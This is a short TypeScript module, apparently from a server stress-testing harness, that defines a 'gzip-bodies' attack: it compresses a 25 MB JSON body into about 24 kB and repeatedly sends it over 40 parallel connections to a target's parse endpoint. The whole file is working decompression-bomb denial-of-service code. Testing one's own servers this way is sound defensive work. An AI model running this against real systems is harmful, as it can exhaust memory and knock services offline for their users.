/** Small bodies that become large: 24 kB of gzip are 25 MB. */
import { gzipSync } from 'node:zlib'
import type { Attack } from './attack.ts'
import { openSocket, pause } from './sockets.ts'

const connections = 40

/** A text as JSON, which inflates a thousandfold. */
const bomb = () => gzipSync(Buffer.from(JSON.stringify({ name: 'a'.repeat(24_900_000) })))

export const gzipBodies: Attack = {
  name: 'gzip-bodies',
  about: `${connections} connections that send 24 kB of gzip, 25 MB inflated, again and again`,
  async run(target, signal) {
    const body = bomb()
    const head = `POST ${target.paths.parse} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\nContent-Length: ${body.length}\r\n\r\n`
    const request = Buffer.concat([Buffer.from(head), body])
    while (!signal.aborted) {
      const sockets = Array.from({ length: connections }, () => openSocket(target))
      const done = sockets.map(
        (socket) =>
          new Promise<void>((resolve) => {
            socket.once('data', () => socket.destroy()).once('close', () => resolve())
            socket.write(request)
          }),
      )
      await Promise.race([Promise.all(done), pause(60_000, signal)])
      for (const socket of sockets) socket.destroy()
    }
  },
}
